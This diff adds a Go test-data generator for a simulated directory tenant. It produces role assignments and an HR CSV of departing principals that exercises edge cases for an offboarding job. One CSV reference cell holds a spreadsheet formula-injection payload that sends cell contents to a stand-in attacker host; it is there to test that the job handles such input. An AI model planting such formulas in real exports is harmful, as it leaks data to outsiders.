@@ -1,0 +1,328 @@
+package simtenant
+
+import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// tenantDomain is the initial domain of generated tenants.
+const tenantDomain = "contoso.onmicrosoft.com"
+
+// minSamplePrincipals is the fewest departing principals Generate makes:
+// the sample needs that many distinct ones to show every status.
+const minSamplePrincipals = 10
+
+// Sample is the input file Generate writes for its tenant, with the ids a
+// demo or a test needs to know what a correct run reports.
+type Sample struct {
+	// CSV has the header
+	// principal_id,user_principal_name,principal_type,reference,effective_date,department
+	// (department is a column the job must ignore), LF line ends.
+	CSV []byte
+	// Departing holds every principal the CSV validly names, self excepted,
+	// in order of first appearance: the protected, deferred and no-assignment
+	// ones included.
+	Departing []string
+	// ByUPN are the departing principals named only by user_principal_name
+	// (at least one member and the guest).
+	ByUPN []string
+	// Guest is a guest user (#EXT# UPN) named by UPN; it holds assignments.
+	Guest string
+	// Duplicate is named on two lines.
+	Duplicate string
+	// Deferred has an effective_date after Config.Now (UTC): status deferred.
+	Deferred string
+	// NoAssignments hold nothing: status no-assignments.
+	NoAssignments []string
+	// Protect is for --protect: departing principals that hold assignments
+	// a correct run skips with detail protected.
+	Protect []string
+	// Self is the caller (CallerID), named in the CSV and holding Global
+	// Administrator: skipped with detail self.
+	Self string
+	// Formula is the principal whose reference cell begins with '='.
+	Formula string
+	// Ghosts are assignments of departing principals that are listed but
+	// answer 404: status already-absent.
+	Ghosts []string
+	// Removable are the assignments a correct run with --protect Protect
+	// removes, sorted.
+	Removable []string
+	// BreakGlass are Global Administrators who are not departing, so the
+	// last-global-admin guard does not fire.
+	BreakGlass []string
+	// InvalidLines are the CSV line numbers (header = line 1) of rows that
+	// are invalid: a bad GUID and an unknown UPN.
+	InvalidLines []int
+}
+
+// Generate builds a tenant with a realistic population and a sample CSV of
+// departing principals that exercises every row status. Everything follows
+// from cfg.Seed and cfg.Now: the same config gives the same tenant and CSV.
+// principals is the number of distinct departing principals (at least 10).
+func Generate(cfg Config, principals int) (*Tenant, Sample) {
+	principals = max(principals, minSamplePrincipals)
+	t := New(cfg)
+	g := &generator{
+		t:    t,
+		rng:  rand.New(rand.NewPCG(cfg.Seed, 0x67656e6572617465)), // "generate"
+		upns: map[string]bool{},
+	}
+	for range 3 {
+		g.units = append(g.units, t.NewID())
+	}
+	now := t.Now().UTC()
+	var s Sample
+
+	// Who stays: two break-glass accounts and the job itself hold Global
+	// Administrator; other staff and apps hold assorted roles.
+	for i := range 2 {
+		u := t.AddUser(User{
+			UserPrincipalName: fmt.Sprintf("breakglass%d@%s", i+1, tenantDomain),
+			DisplayName:       fmt.Sprintf("Break Glass %d", i+1),
+		})
+		g.upns[strings.ToLower(u.UserPrincipalName)] = true
+		t.AddRoleAssignment(RoleAssignment{PrincipalID: u.ID, RoleDefinitionID: GlobalAdministrator})
+		s.BreakGlass = append(s.BreakGlass, u.ID)
+	}
+	t.AddRoleAssignment(RoleAssignment{PrincipalID: t.CallerID(), RoleDefinitionID: GlobalAdministrator})
+	for range principals/2 + 3 {
+		u := g.user(false)
+		g.assign(u.ID, g.rng.IntN(3))
+	}
+	for range max(2, principals/10) {
+		sp := g.servicePrincipal()
+		g.assign(sp.ID, g.rng.IntN(2))
+	}
+
+	// Who leaves. Fixed positions carry the special cases so that each is
+	// present however small the sample.
+	const (
+		noAssignments = iota
+		protected
+		ghost1
+		ghost2
+		deferred
+		duplicate
+		formula
+		memberByUPN
+		specials
+	)
+	nSP := max(1, principals/8)
+	nUsers := principals - nSP
+	guest := nUsers - 1
+	type leaver struct {
+		id, upn, kind string
+		byUPN         bool
+	}
+	leavers := make([]leaver, principals)
+	for i := range leavers {
+		switch {
+		case i < nUsers:
+			u := g.user(i == guest || i >= specials && g.rng.IntN(20) == 0)
+			byUPN := i == guest || i == memberByUPN || i >= specials && g.rng.IntN(6) == 0
+			leavers[i] = leaver{id: u.ID, upn: u.UserPrincipalName, kind: "User", byUPN: byUPN}
+		default:
+			sp := g.servicePrincipal()
+			leavers[i] = leaver{id: sp.ID, kind: "ServicePrincipal"}
+		}
+		held := g.rng.IntN(5)
+		switch {
+		case i == noAssignments:
+			held = 0
+		case i < specials || i == guest:
+			held = max(held, 1)
+		}
+		ids := g.assign(leavers[i].id, held)
+		if i == ghost1 || i == ghost2 {
+			t.MarkGhost(ids[0])
+			s.Ghosts = append(s.Ghosts, ids[0])
+		}
+	}
+
+	// The CSV: one row per leaver, then the awkward rows, shuffled
+	// (deterministically) as an HR export would be in no useful order.
+	type row struct {
+		id, upn, kind, ref, date, dept string
+		invalid                        bool
+	}
+	var rows []row
+	for i, l := range leavers {
+		r := row{kind: l.kind, ref: g.reference(), date: g.pastDate(now), dept: g.department()}
+		if l.byUPN {
+			r.upn = l.upn
+			s.ByUPN = append(s.ByUPN, l.id)
+		} else {
+			r.id = l.id
+		}
+		switch i {
+		case deferred:
+			r.date = now.AddDate(0, 0, 14).Format(time.DateOnly)
+		case formula:
+			r.ref = `=HYPERLINK("https://attacker.example/?d="&A1,"open ticket")`
+		case duplicate:
+			dup := r
+			dup.ref = r.ref + " (resent)"
+			rows = append(rows, dup)
+		}
+		rows = append(rows, r)
+	}
+	unknownUPN := "nobody.here@" + tenantDomain
+	for g.upns[unknownUPN] {
+		unknownUPN = "x" + unknownUPN
+	}
+	rows = append(rows,
+		row{id: "9f8e7d6c-5b4a-4321-9fed-cba98765432", kind: "User", ref: g.reference(), date: g.pastDate(now), dept: g.department(), invalid: true},
+		row{upn: unknownUPN, kind: "User", ref: g.reference(), date: g.pastDate(now), dept: g.department(), invalid: true},
+		row{id: t.CallerID(), kind: "ServicePrincipal", ref: g.reference(), date: g.pastDate(now), dept: "IT"},
+	)
+	g.rng.Shuffle(len(rows), func(i, j int) { rows[i], rows[j] = rows[j], rows[i] })
+
+	var buf bytes.Buffer
+	w := csv.NewWriter(&buf)
+	w.Write([]string{"principal_id", "user_principal_name", "principal_type", "reference", "effective_date", "department"})
+	byUPN := map[string]string{}
+	for _, l := range leavers {
+		if l.upn != "" {
+			byUPN[l.upn] = l.id
+		}
+	}
+	seen := map[string]bool{}
+	for i, r := range rows {
+		w.Write([]string{r.id, r.upn, r.kind, r.ref, r.date, r.dept})
+		if r.invalid {
+			s.InvalidLines = append(s.InvalidLines, i+2)
+			continue
+		}
+		id := r.id
+		if id == "" {
+			id = byUPN[r.upn]
+		}
+		if id != t.CallerID() && !seen[id] {
+			seen[id] = true
+			s.Departing = append(s.Departing, id)
+		}
+	}
+	w.Flush()
+	s.CSV = buf.Bytes()
+
+	s.Guest = leavers[guest].id
+	s.Duplicate = leavers[duplicate].id
+	s.Deferred = leavers[deferred].id
+	s.Protect = []string{leavers[protected].id}
+	s.Self = t.CallerID()
+	s.Formula = leavers[formula].id
+	for _, id := range s.Departing {
+		held := t.RoleAssignmentsOf(id)
+		if len(held) == 0 {
+			s.NoAssignments = append(s.NoAssignments, id)
+		}
+		if id == s.Deferred || slices.Contains(s.Protect, id) {
+			continue
+		}
+		for _, a := range held {
+			if !slices.Contains(s.Ghosts, a.ID) {
+				s.Removable = append(s.Removable, a.ID)
+			}
+		}
+	}
+	slices.Sort(s.Removable)
+	return t, s
+}
+
+// generator draws the generated population from one seeded source; calls
+// happen in a fixed order, which is what makes Generate repeatable.
+type generator struct {
+	t     *Tenant
+	rng   *rand.Rand
+	upns  map[string]bool
+	units []string // administrative unit ids
+	apps  int
+}
+
+func (g *generator) pick(list []string) string { return list[g.rng.IntN(len(list))] }
+
+// user adds a member, or a guest whose UPN carries #EXT#.
+func (g *generator) user(guest bool) User {
+	first := g.pick([]string{"Adele", "Alex", "Allan", "Bianca", "Christie", "Debra", "Diego", "Enrico",
+		"Grady", "Henrietta", "Isaiah", "Johanna", "Joni", "Lee", "Lidia", "Lynne", "Megan", "Miriam",
+		"Nestor", "Patti", "Pradeep", "Raul", "Sakura", "Yuki"})
+	last := g.pick([]string{"Vance", "Wilber", "Deyoung", "Jones", "Cline", "Berg", "Zamora", "Cattaneo",
+		"Archie", "Rios", "Langer", "Lauer", "Sherman", "Gu", "Holloway", "Fox", "Bowen", "Hunter",
+		"Varga", "Fernandez", "Gupta", "Moreno", "Tanaka", "Sato"})
+	local := strings.ToLower(first + "." + last)
+	display := first + " " + last
+	domain := tenantDomain
+	if guest {
+		home := g.pick([]string{"fabrikam.com", "northwind.example", "tailspin.example"})
+		local = local + "_" + home + "#EXT#"
+		display += " (" + home + ")"
+	}
+	upn := local + "@" + domain
+	for n := 2; g.upns[strings.ToLower(upn)]; n++ {
+		if guest {
+			upn = strings.Replace(local, "_", strconv.Itoa(n)+"_", 1) + "@" + domain
+		} else {
+			upn = local + strconv.Itoa(n) + "@" + domain
+		}
+	}
+	g.upns[strings.ToLower(upn)] = true
+	userType := "Member"
+	if guest {
+		userType = "Guest"
+	}
+	return g.t.AddUser(User{UserPrincipalName: upn, DisplayName: display, UserType: userType})
+}
+
+// servicePrincipal adds an application's service principal.
+func (g *generator) servicePrincipal() ServicePrincipal {
+	g.apps++
+	name := g.pick([]string{"Payroll Sync", "HR Connector", "Backup Agent", "Provisioning Bot",
+		"Reporting Service", "Ticket Bridge", "Legacy Importer"})
+	return g.t.AddServicePrincipal(ServicePrincipal{DisplayName: fmt.Sprintf("%s %d", name, g.apps)})
+}
+
+// assign gives a principal n distinct roles; Global Administrator is rare,
+// and the roles that can be scoped to an administrative unit sometimes are.
+func (g *generator) assign(principalID string, n int) []string {
+	pool := []string{UserAdministrator, HelpdeskAdministrator, SecurityReader, GlobalReader,
+		ApplicationAdministrator, CloudApplicationAdministrator, GroupsAdministrator,
+		ExchangeAdministrator, PrivilegedRoleAdministrator}
+	g.rng.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
+	roles := pool[:min(n, len(pool))]
+	if n > 0 && g.rng.IntN(12) == 0 {
+		roles[0] = GlobalAdministrator
+	}
+	var ids []string
+	for _, role := range roles {
+		scope := "/"
+		scopable := role == UserAdministrator || role == HelpdeskAdministrator || role == GroupsAdministrator
+		if scopable && g.rng.IntN(4) == 0 {
+			scope = "/administrativeUnits/" + g.pick(g.units)
+		}
+		a := g.t.AddRoleAssignment(RoleAssignment{PrincipalID: principalID, RoleDefinitionID: role, DirectoryScopeID: scope})
+		ids = append(ids, a.ID)
+	}
+	return ids
+}
+
+func (g *generator) reference() string { return fmt.Sprintf("HR-%05d", 10000+g.rng.IntN(90000)) }
+
+func (g *generator) department() string {
+	return g.pick([]string{"Sales", "Finance", "Engineering", "Sales, EMEA", "Legal", "Marketing", "Support"})
+}
+
+// pastDate is a due effective_date: today or up to nine days back, or
+// (one time in five) empty.
+func (g *generator) pastDate(now time.Time) string {
+	if g.rng.IntN(5) == 0 {
+		return ""
+	}
+	return now.AddDate(0, 0, -g.rng.IntN(10)).Format(time.DateOnly)
+}
